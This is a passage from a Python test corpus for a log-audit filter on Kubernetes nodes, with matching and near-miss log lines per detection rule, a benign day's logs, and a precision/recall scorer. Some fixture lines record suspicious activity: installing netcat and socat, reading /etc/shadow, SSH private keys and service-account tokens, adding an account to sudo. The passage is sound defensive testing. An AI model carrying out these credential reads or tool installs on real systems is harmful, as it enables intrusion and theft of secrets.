        ("apk (container stdout)", log("web", "(1/4) Installing ca-certificates (20240226-r0)", container_id="3d1b8a1c8e0f", container_name="web")),
        ("pip (container stdout)", log("web", "Successfully installed requests-2.32.3 urllib3-2.2.2", container_id="3d1b8a1c8e0f", container_name="web")))
    miss("container-package-manager",
         ("container stdout", log("web", "Setting up database connection pool (size 10)", container_id="3d1b8a1c8e0f", container_name="web")),
         ("node apt (no container)", log("apt", "Setting up curl (7.88.1-10+deb12u5) ...")),
         ("container stdout", log("web", "Installing signal handlers", container_id="3d1b8a1c8e0f", container_name="web")))
    hit("package-manager-exec",
        ("audisp-syslog", log("audisp-syslog", 'node=worker-1 type=EXECVE msg=audit(1796563400.413:2231): argc=4 a0="apt-get" a1="install" a2="-y" a3="netcat-openbsd"')),
        ("audit", log("audit", 'type=EXECVE msg=audit(1796563400.414:2232): argc=3 a0="apk" a1="add" a2="socat"')),
        ("kernel", log("kernel", 'audit: type=1309 audit(1796563400.415:2233): argc=3 a0="/usr/bin/pip" a1="install" a2="pyinstaller"')))
    miss("package-manager-exec",
         ("audisp-syslog", log("audisp-syslog", 'node=worker-1 type=EXECVE msg=audit(1796563400.413:2231): argc=2 a0="apt-cache" a1="policy"')),
         ("audit", log("audit", 'type=EXECVE msg=audit(1796563400.414:2232): argc=2 a0="dpkg" a1="-l"')),
         ("kernel", log("kernel", 'audit: type=1309 audit(1796563400.415:2233): argc=2 a0="pip" a1="list"')))
    hit("sudo-command",
        ("sudo", log("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow")),
        ("sudo", log("sudo", "ansible : PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo BECOME-SUCCESS-kq ; /usr/bin/python3")),
        ("sudo", log("sudo", "    bob : TTY=pts/1 ; PWD=/srv ; USER=postgres ; COMMAND=/usr/bin/psql")))
    miss("sudo-command",
         ("sudo", log("sudo", "pam_unix(sudo:session): session closed for user root")),
         ("sudo", log("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)")),
         ("sudo", log("sudo", "   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")))
    hit("sudo-failure",
        ("sudo", log("sudo", "   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")),
        ("sudo", log("sudo", "mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh")),
        ("sudo", log("sudo", "pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice")))
    miss("sudo-failure",
         ("sudo", log("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)")),
         ("sudo", log("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/ls")),
         ("sudo", log("sudo", "pam_unix(sudo:auth): conversation failed")))
    hit("su-session",
        ("su", log("su", "pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)")),
        ("su-l", log("su-l", "pam_unix(su-l:session): session opened for user postgres(uid=108) by alice(uid=1000)")),
        ("su", log("su", "pam_unix(su:session): session opened for user nobody by (uid=0)")))
    miss("su-session",
         ("su", log("su", "pam_unix(su:session): session closed for user root")),
         ("su", log("su", "(to root) alice on pts/0")),
         ("su-l", log("su-l", "pam_unix(su-l:auth): authentication failure; logname=alice uid=1000 euid=0 tty=pts/0 ruser=alice rhost=  user=root")))
    hit("su-failure",
        ("su", log("su", "pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 tty=pts/0 ruser=alice rhost=  user=root")),
        ("su-l", log("su-l", "pam_unix(su-l:auth): authentication failure; logname=bob uid=1001 euid=0 tty=pts/1 ruser=bob rhost=  user=root")),
        ("su", log("su", "FAILED SU (to root) alice on pts/0")))
    miss("su-failure",
         ("su", log("su", "pam_unix(su:session): session closed for user root")),
         ("su", log("su", "(to root) alice on pts/0")),
         ("su", log("su", "Successful su for root by alice")))
    hit("ssh-root-login",
        ("sshd", log("sshd", "Accepted publickey for root from 203.0.113.9 port 50122 ssh2: ED25519 SHA256:Jm8uQ3n0eWc0y7o9e0d1Zk2bq6S6e5k3QmX1x2y3z4A")),
        ("sshd-session", log("sshd-session", "Accepted password for root from 198.51.100.7 port 40022 ssh2")),
        ("sshd", log("sshd", "Accepted keyboard-interactive/pam for root from 203.0.113.50 port 51234 ssh2")))
    miss("ssh-root-login",
         ("sshd", log("sshd", "Accepted publickey for alice from 203.0.113.9 port 50122 ssh2: ED25519 SHA256:Jm8uQ3n0eWc0y7o9e0d1Zk2bq6S6e5k3QmX1x2y3z4A")),
         ("sshd", log("sshd", "Failed password for root from 203.0.113.50 port 51234 ssh2")),
         ("sshd-session", log("sshd-session", "pam_unix(sshd:session): session opened for user root(uid=0) by root(uid=0)")))
    hit("ssh-login",
        ("sshd", log("sshd", "Accepted publickey for ansible from 10.0.0.5 port 51514 ssh2: ED25519 SHA256:Jm8uQ3n0eWc0y7o9e0d1Zk2bq6S6e5k3QmX1x2y3z4A")),
        ("sshd-session", log("sshd-session", "Accepted password for alice from 198.51.100.7 port 40022 ssh2")),
        ("sshd", log("sshd", "Accepted gssapi-with-mic for bob from 10.0.0.6 port 40100 ssh2")))
    miss("ssh-login",
         ("sshd", log("sshd", "Disconnected from user alice 198.51.100.7 port 40022")),
         ("sshd", log("sshd", "Connection closed by 203.0.113.50 port 51234 [preauth]")),
         ("sshd-session", log("sshd-session", "Received disconnect from 10.0.0.5 port 51514:11: disconnected by user")))
    hit("ssh-auth-failure",
        ("sshd", log("sshd", "Failed password for invalid user admin from 203.0.113.50 port 51234 ssh2")),
        ("sshd-session", log("sshd-session", "Failed publickey for root from 203.0.113.51 port 51235 ssh2: RSA SHA256:abc")),
        ("sshd", log("sshd", "Failed password for alice from 198.51.100.7 port 40022 ssh2")))
    miss("ssh-auth-failure",
         ("sshd", log("sshd", "Connection closed by 203.0.113.50 port 51234 [preauth]")),
         ("sshd", log("sshd", "error: maximum authentication attempts exceeded for root from 203.0.113.50 port 51234 ssh2 [preauth]")),
         ("sshd-session", log("sshd-session", "Accepted password for alice from 198.51.100.7 port 40022 ssh2")))
    hit("ssh-invalid-user",
        ("sshd", log("sshd", "Invalid user admin from 203.0.113.50 port 51234")),
        ("sshd-session", log("sshd-session", "Invalid user oracle from 203.0.113.52 port 40110")),
        ("sshd", log("sshd", "Invalid user  from 203.0.113.53 port 40111")))
    miss("ssh-invalid-user",
         ("sshd", log("sshd", "Connection closed by invalid user admin 203.0.113.50 port 51234 [preauth]")),
         ("sshd", log("sshd", "Disconnected from invalid user admin 203.0.113.50 port 51234 [preauth]")),
         ("sshd", log("sshd", "input_userauth_request: invalid user admin [preauth]")))
    hit("sensitive-file-access",
        ("audit", log("audit", 'type=PATH msg=audit(1796563400.413:2232): item=0 name="/var/run/secrets/kubernetes.io/serviceaccount/..2026_12_06_13_00_00.1234/token" inode=393377 dev=00:2f mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL')),
        ("audisp-syslog", log("audisp-syslog", 'node=worker-1 type=PATH msg=audit(1796563400.414:2233): item=0 name="/etc/shadow" inode=1 dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL')),
        ("kernel", log("kernel", 'audit: type=1302 audit(1796563400.415:2234): item=0 name="/root/.ssh/id_rsa" inode=2 dev=08:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL')))
    miss("sensitive-file-access",
         ("audit", log("audit", 'type=PATH msg=audit(1796563400.413:2232): item=0 name="/etc/passwd" inode=393377 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL')),
         ("audisp-syslog", log("audisp-syslog", 'node=worker-1 type=PATH msg=audit(1796563400.414:2233): item=0 name="/var/run/secrets/kubernetes.io/serviceaccount/namespace" inode=1 dev=00:2f nametype=NORMAL')),
         ("kernel", log("kernel", 'audit: type=1302 audit(1796563400.415:2234): item=0 name="/etc/shadow.conf" inode=2 dev=08:01 nametype=NORMAL')))
    hit("user-group-change",
        ("useradd", log("useradd", "new user: name=mallory, UID=1001, GID=1001, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0")),
        ("usermod", log("usermod", "add 'mallory' to group 'sudo'")),
        ("passwd", log("passwd", "pam_unix(passwd:chauthtok): password changed for root")))
    miss("user-group-change",
         ("passwd", log("passwd", "pam_unix(passwd:chauthtok): authentication failure; logname= uid=1000 euid=0 tty=pts/0 ruser= rhost=  user=alice")),
         ("chpasswd", log("chpasswd", "pam_unix(chpasswd:chauthtok): conversation failed")),
         ("useradd", log("useradd", "pam_unix(useradd:auth): authentication failure; logname=alice uid=1000")))
    hit("user-group-change-audit",
        ("audit", log("audit", "type=ADD_USER msg=audit(1796563400.500:2240): pid=4242 uid=0 auid=1000 ses=3 subj=unconfined msg='op=adding user id=1001 exe=\"/usr/sbin/useradd\" hostname=worker-1 addr=? terminal=pts/0 res=success'")),
        ("audisp-syslog", log("audisp-syslog", "node=worker-1 type=USER_MGMT msg=audit(1796563400.501:2241): pid=4243 uid=0 auid=1000 ses=3 msg='op=add-user-to-group grp=\"sudo\" acct=\"mallory\" exe=\"/usr/sbin/usermod\" hostname=worker-1 addr=? terminal=pts/0 res=success'")),
        ("auditd via imfile", log("audit", "type=USER_CHAUTHTOK msg=audit(1796563400.502:2242): pid=4244 uid=0 auid=1000 ses=3 msg='op=PAM:chauthtok acct=\"root\" exe=\"/usr/bin/passwd\" hostname=worker-1 addr=? terminal=pts/0 res=success'")))
    miss("user-group-change-audit",
         ("audit", log("audit", "type=USER_LOGIN msg=audit(1796563400.500:2241): pid=4242 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 addr=10.0.0.5 terminal=/dev/pts/0 res=success'")),
         ("audisp-syslog", log("audisp-syslog", "node=worker-1 type=USER_ACCT msg=audit(1796563400.501:2242): pid=4245 uid=0 auid=1001 ses=9 msg='op=PAM:accounting grantors=pam_permit acct=\"ansible\" exe=\"/usr/sbin/sshd\" hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=success'")),
         ("audit", log("audit", "type=USER_CMD msg=audit(1796563400.502:2243): pid=5000 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/alice\" cmd=7573657261646420 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'")))
    return cases


def benign_day() -> list[tuple[str, Record]]:
    """A normal Kubernetes node's day: none of these may raise an alert."""
    probe = containerd_exec("sh -c cat /tmp/healthy", sync=True)
    return [
        ("kubelet", log("kubelet", 'I1206 13:23:20.100 2841 prober.go:107] "Probe succeeded" probeType="Readiness" pod="app/web-0" containerName="web"')),
        ("kubelet", log("kubelet", 'I1206 13:23:21.000 2841 kubelet.go:2455] "SyncLoop (PLEG): event for pod" pod="app/web-0" event={"ID":"5f0c2e8a","Type":"ContainerStarted"}')),
        ("kubelet", log("kubelet", 'I1206 13:23:22.000 2841 kuberuntime_manager.go:1027] "Creating container in pod" containerType="init container" container="&Container{Name:init,Image:busybox,Command:[sh -c until nslookup db; do sleep 2; done],}"')),
        ("kubelet", log("kubelet", 'E1206 13:23:23.000 2841 pod_workers.go:1298] "Error syncing pod, skipping" err="failed to \\"StartContainer\\" for \\"app\\" with CrashLoopBackOff"')),
        ("containerd", probe),
        ("containerd", containerd_exec("/bin/grpc_health_probe -addr=:8080", sync=True)),
        ("containerd", log("containerd", f'time="2026-12-06T13:23:20.2Z" level=info msg="StartContainer for \\"{CID}\\" returns successfully"')),
        ("containerd", log("containerd", 'time="2026-12-06T13:23:20.3Z" level=info msg="RunPodSandbox for &PodSandboxMetadata{Name:web-0,Uid:5f0c2e8a,Namespace:app,Attempt:0,} returns sandbox id \\"9f8e7d6c5b4a\\""')),
        ("containerd", log("containerd", 'time="2026-12-06T13:23:20.4Z" level=info msg="PullImage \\"docker.io/library/nginx:1.27\\""')),
        ("systemd", log("systemd", "Started session-12.scope - Session 12 of User ansible.")),
        ("systemd", log("systemd", "Starting apt-daily.service - Daily apt download activities...")),
        ("systemd", log("systemd", "logrotate.service: Deactivated successfully.")),
        ("systemd", log("systemd", "Reloading.")),
        ("systemd", log("systemd", "Started cri-containerd-3d1b8a1c8e0f5b7a9c2d4e6f8a0b1c3d5e7f9a1b3c5d7e9f0a2b4c6d8e0f1a2b.scope - libcontainer container 3d1b8a1c8e0f.")),
        ("sshd", log("sshd", "Accepted publickey for ansible from 10.0.0.5 port 51514 ssh2: ED25519 SHA256:Jm8uQ3n0eWc0y7o9e0d1Zk2bq6S6e5k3QmX1x2y3z4A")),
        ("sshd", log("sshd", "pam_unix(sshd:session): session opened for user ansible(uid=1001) by ansible(uid=0)")),
        ("sshd", log("sshd", "Received disconnect from 10.0.0.5 port 51514:11: disconnected by user")),
        ("sshd", log("sshd", "pam_unix(sshd:session): session closed for user ansible")),
        ("sudo", log("sudo", "ansible : PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo BECOME-SUCCESS-kqzqy ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-1/AnsiballZ_apt.py")),
        ("sudo", log("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by ansible(uid=1001)")),
        ("CRON", log("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)")),
        ("CRON", log("CRON", "(root) CMD (   test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond)")),
        ("cron", log("cron", "(*system*) RELOAD (/etc/crontab)")),
        ("auditd", audit(["sh", "-c", "cat /tmp/healthy"])),
        ("auditd", audit("/bin/grpc_health_probe -addr=:8080")),
        ("auditd", audit("nginx -g daemon off;", container=CID2)),
        ("auditd", audit("/usr/sbin/iptables -w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle", container=None)),
        ("auditd", audit("/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 5f0c2e8a -address /run/containerd/containerd.sock", container=None)),
        ("auditd", audit("runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/x/log.json --log-format json exec --process /tmp/runc-process1 --detach --pid-file /run/x/pid x", container=None)),
        ("auditd", audit("/usr/sbin/logrotate /etc/logrotate.conf", container=None)),
        ("auditd", audit("mount -t tmpfs -o size=64M tmpfs /var/lib/kubelet/pods/x/volumes/kubernetes.io~projected/kube-api-access-x", container=None)),
        ("auditd", audit("apt-get -qq update", container=None)),
        ("auditd", audit("/usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-1/AnsiballZ_apt.py", container=None, uid=0, auid=1001)),
        ("auditd (PAM)", audit_user("USER_START", "pid=6100 uid=0 auid=1001 ses=12",
                                    'op=PAM:session_open grantors=pam_unix acct="ansible" exe="/usr/sbin/sshd" hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=success')),
        ("auditd (PAM)", audit_user("CRED_ACQ", "pid=6101 uid=0 auid=4294967295 ses=4294967295",
                                    'op=PAM:setcred grantors=pam_permit acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success')),
        ("history", history("kubectl get pods -A -o wide", user="alice")),
        ("history", history("journalctl -u kubelet --since today | tail -50", user="alice")),
        ("history", history("crictl ps")),
        ("history", history("systemctl status containerd")),
        ("snoopy", snoopy("/usr/bin/python3 /usr/bin/unattended-upgrade")),
        ("snoopy", snoopy("tail -n 100 /var/log/syslog")),
    ]  # fmt: skip


CASES: list[Case] = _cases()
BENIGN: list[tuple[str, Record]] = benign_day()


def is_alert(record: Record) -> bool:
    mark = record.get("audit")
    return mark is not None and mark["severity"] != "info"


def fired(record: Record) -> list[str]:
    mark = record.get("audit")
    if mark is None:
        return []
    return list(mark.get("matched", [mark["rule"]]))


def evaluate(run: Callable[[Record], Record]) -> dict[str, dict[str, float]]:
    """Per category: true positives, false negatives, false positives (a rule of the category
    firing on a near miss or a benign line where it was not expected), precision, recall."""
    category_of = {rule: name for name, rules in CATEGORIES.items() for rule in rules}
    table = {name: {"tp": 0.0, "fn": 0.0, "fp": 0.0, "positives": 0.0, "near": 0.0}
             for name in CATEGORIES}  # fmt: skip
    for case in CASES:
        got = fired(run(dict(case.record)))
        name = category_of[case.rule]
        if case.fires:
            table[name]["positives"] += 1
            table[name]["tp" if case.rule in got else "fn"] += 1
        else:
            table[name]["near"] += 1
            for rule in got:
                if rule == case.rule:
                    table[category_of[rule]]["fp"] += 1
    for _, record in BENIGN:
        out = run(dict(record))
        if is_alert(out):
            for rule in fired(out):
                table[category_of[rule]]["fp"] += 1
    for row in table.values():
        flagged = row["tp"] + row["fp"]
        row["precision"] = row["tp"] / flagged if flagged else 1.0
        row["recall"] = row["tp"] / row["positives"] if row["positives"] else 1.0
    return table


START = "<!-- corpus table: generated by `python -m tests.audit_corpus`; do not edit -->"
END = "<!-- end of corpus table -->"


def render(table: dict[str, dict[str, float]]) -> str:
    lines = [
        START,
        "",
        f"Corpus: {sum(c.fires for c in CASES)} lines that must fire a rule, "
        f"{sum(not c.fires for c in CASES)} near misses, {len(BENIGN)} lines of a normal "
        "node's day (none may raise an alert: a mark other than `info`).",
        "",
        "| category | lines that must fire | near misses | precision | recall |",
        "|---|---|---|---|---|",
    ]
    for name, row in table.items():
        if not row["positives"]:
            continue
        lines.append(
            f"| {name} | {int(row['positives'])} | {int(row['near'])} | "
            f"{row['precision']:.2f} | {row['recall']:.2f} |"
        )
    lines += ["", END]
    return "\n".join(lines)


def docs_path() -> Path:
    return Path(__file__).resolve().parents[1] / "docs" / "filters.md"


def current_table() -> str:
    from tests.filter_helpers import make

    audit = make("audit", retag=False)

    def run(record: Record) -> Record:
        ((_, (out,)),) = audit.process("syslog", [record])
        return out

    return render(evaluate(run))


def main() -> int:
    path = docs_path()
    text = path.read_text()
    if START not in text or END not in text:
        print(f"{path}: no corpus table markers", file=sys.stderr)
        return 1
    before, rest = text.split(START, 1)
    _, after = rest.split(END, 1)
    path.write_text(before + current_table() + after)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
